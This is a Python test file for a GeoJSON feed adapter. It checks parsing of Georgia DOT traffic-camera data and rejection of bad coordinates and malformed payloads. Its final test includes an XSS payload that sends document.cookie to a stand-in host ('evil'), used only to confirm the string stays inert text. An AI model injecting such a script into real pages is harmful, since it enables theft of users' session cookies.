"""GeoJSON adapter on the real GDOT camera layer, plus hostile collections."""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

import pytest

from rtcc_desktop.feeds.adapters import AdapterError, Batch, parse_payload
from rtcc_desktop.model.geo import BBox
from rtcc_desktop.model.validate import FeedContext

GDOT = "cameras_georgia_gdot_geojson/GDOT_Live_Traffic_Cameras.geojson"
GEORGIA = BBox(-85.7, 30.3, -80.7, 35.1)


def ctx(kind: str = "camera", bbox: BBox | None = GEORGIA) -> FeedContext:
    return FeedContext(source="gdot", kind=kind, agency="GDOT", bbox=bbox)


@pytest.fixture(scope="module")
def gdot_raw(realdata: Path) -> dict[str, Any]:
    return json.loads((realdata / GDOT).read_text(encoding="utf-8"))


@pytest.fixture(scope="module")
def gdot(realdata: Path) -> Batch:
    return parse_payload((realdata / GDOT).read_bytes(), "geojson", ctx())


def test_gdot_rejects_exactly_the_known_bad_geometries(gdot: Batch) -> None:
    # SOURCE.txt: 9 features at (0,0) and 1 with a sign-flipped longitude (+84.09)
    assert (len(gdot.records), len(gdot.rejects)) == (3206, 10)
    null_island = [raw for reason, raw in gdot.rejects if "(0,0)" in reason]
    flipped = [(reason, raw) for reason, raw in gdot.rejects if "wrong sign" in reason]
    assert len(null_island) == 9 and all(f["geometry"]["coordinates"] == [0.0, 0.0] for f in null_island)
    assert [raw["properties"]["name"] for _, raw in flipped] == ["GCDOT-CAM-344"]


def test_without_a_service_area_the_flipped_sign_cannot_be_detected(realdata: Path) -> None:
    batch = parse_payload((realdata / GDOT).read_bytes(), "geojson", ctx(bbox=None))
    assert len(batch.rejects) == 9  # only (0,0) is knowable without a bbox


def test_gdot_camera_fields_and_urls(gdot: Batch) -> None:
    cams = {r["source_id"]: r for r in gdot.records}
    first = cams["cctv_9089"]
    assert (first["name"], first["lat"], first["lon"]) == ("COBB-CAM-006", 33.902472, -84.568096)  # [lon, lat]
    assert first["address"] == "SR 5 S @ MM 0.0 (Austell Rd E at Pat Mell Rd)"
    assert first["snapshot_url"] == "http://navigator-c2c.dot.ga.gov/snapshots/COBB-CAM-006.jpg"
    assert first["stream_url"] is None and first["access"] == "live" and first["agency"] == "GDOT"
    hls = cams["cctv_6032"]  # has HLS, RTSP and a snapshot
    assert hls["stream_url"] == "http://vss5live.dot.ga.gov:80/lo/bibb-cam-036.stream/playlist.m3u8"
    assert hls["snapshot_url"] == "http://navigator-c2c.dot.ga.gov/snapshots/BIBB-CAM-036.jpg"
    assert cams["cctv_13548"]["stream_url"] == "rtsp://vss15od.dot.ga.gov:80/cl/dek-cam-310.stream"  # RTSP only


def test_gdot_counts_of_streams_and_request_only_cameras(gdot: Batch, gdot_raw: dict[str, Any]) -> None:
    kept = {r["source_id"] for r in gdot.records}
    props = [f["properties"] for f in gdot_raw["features"] if f["properties"]["cctv_id"] in kept]
    assert sum(1 for r in gdot.records if r["stream_url"]) == sum(1 for p in props if p["HLS"] or p["RTSP"])
    no_url = sum(1 for p in props if not (p["HLS"] or p["RTSP"] or p["url"]))
    # 12 snapshot URLs are malformed in the source ('c2c.dot.ga.gov/...', 'http:/navigator-...'):
    # not guessed at, so those cameras are request-only and the narrative says why
    broken = [p for p in props if not (p["HLS"] or p["RTSP"]) and p["url"] and not re.match(r"(?i)https?://", p["url"])]
    assert len(broken) == 12
    assert sum(1 for r in gdot.records if r["access"] == "request") == no_url + len(broken)
    cams = {r["source_id"]: r for r in gdot.records}
    spal = cams[next(p["cctv_id"] for p in broken if p["name"] == "SPAL-CAM-005")]
    assert (spal["access"], spal["snapshot_url"]) == ("request", None)
    assert spal["narrative"] == "unusable URL in url: c2c.dot.ga.gov/snapshots/SPAL-CAM-005.jpg"


def fc(*features: dict[str, Any], **extra: Any) -> str:
    return json.dumps({"type": "FeatureCollection", "features": list(features), **extra})


def feature(coords: Any, geom: str = "Point", **props: Any) -> dict[str, Any]:
    return {"type": "Feature", "geometry": {"type": geom, "coordinates": coords}, "properties": props}


SHOT = {"time": "2024-05-01T10:00:00Z", "type": "Multiple Gunshots"}


def test_hostile_geometries_are_rejected_truthfully() -> None:
    data = fc(
        feature([33.9, -84.5], id="swapped", **SHOT),
        feature([0, 0], id="zero", **SHOT),
        feature([-122.3, 47.6], id="seattle", **SHOT),
        feature([[-84.5, 33.9], [-84.4, 33.8]], "LineString", id="line", **SHOT),
        {"type": "Feature", "geometry": None, "properties": {"id": "nogeom", **SHOT}},
        {"type": "Feature", "geometry": {"type": "Point", "coordinates": ["a", "b"]}, "properties": {"id": "text", **SHOT}},
        "not a feature",
        feature([-84.5, 33.9], id="good", **SHOT),
    )
    batch = parse_payload(data, "geojson", ctx("gunshot"))
    reasons = {(raw.get("properties") or {}).get("id") if isinstance(raw, dict) else raw: r for r, raw in batch.rejects}
    assert "swapped" in reasons["swapped"]
    assert "(0,0)" in reasons["zero"]
    assert "outside the service area" in reasons["seattle"]
    assert "LineString, not a Point" in reasons["line"]
    assert reasons["nogeom"] == "location is missing"
    assert "not a pair of numbers" in reasons["text"]
    assert "not a GeoJSON Feature" in reasons["not a feature"]
    assert [r["source_id"] for r in batch.records] == ["good"]


def test_fields_can_point_lat_lon_at_properties_instead_of_geometry() -> None:
    data = fc(feature([0, 0], id="p1", Y="33.9", X="-84.5", **SHOT))
    batch = parse_payload(data, "geojson", ctx("gunshot"), fields={"lat": "Y", "lon": "X"})
    assert (batch.records[0]["lat"], batch.records[0]["lon"]) == (33.9, -84.5)


def test_feature_id_is_used_when_properties_have_none() -> None:
    f = feature([-84.5, 33.9], **SHOT)
    f["id"] = 42
    batch = parse_payload(fc(f), "geojson", ctx("gunshot"))
    assert batch.records[0]["source_id"] == "42"


def test_duplicate_feature_ids_keep_the_last() -> None:
    data = fc(feature([-84.5, 33.9], id="d", rounds=2, **SHOT), feature([-84.5, 33.9], id="d", rounds=5, **SHOT))
    batch = parse_payload(data, "geojson", ctx("gunshot"))
    assert [(r["source_id"], r["rounds"]) for r in batch.records] == [("d", 5.0)]
    assert batch.duplicates == 1


def test_projected_crs_is_refused() -> None:
    data = fc(feature([-9420000, 4010000], **SHOT), crs={"type": "name", "properties": {"name": "urn:ogc:def:crs:EPSG::3857"}})
    with pytest.raises(AdapterError, match="EPSG::3857"):
        parse_payload(data, "geojson", ctx("gunshot"))


@pytest.mark.parametrize(
    ("payload", "match"),
    [
        ('{"type": "Feature", "geometry": null, "properties": {}}', "not a FeatureCollection"),
        ("[1, 2, 3]", "not a FeatureCollection"),
        ('{"type": "FeatureCollection"}', "no 'features' array"),
        ('{"type": "FeatureCollection", "features": [{"type": "Feat', "truncated"),
        ("<html>502 Bad Gateway</html>", "not valid JSON"),
    ],
)
def test_unusable_payloads_raise(payload: str, match: str) -> None:
    with pytest.raises(AdapterError, match=match):
        parse_payload(payload, "geojson", ctx("gunshot"))


def test_script_in_a_property_stays_text() -> None:
    evil = "<script>document.location='http://evil/'+document.cookie</script>"
    batch = parse_payload(fc(feature([-84.5, 33.9], id="s", notes=evil, **SHOT)), "geojson", ctx("gunshot"))
    assert batch.records[0]["narrative"] == evil
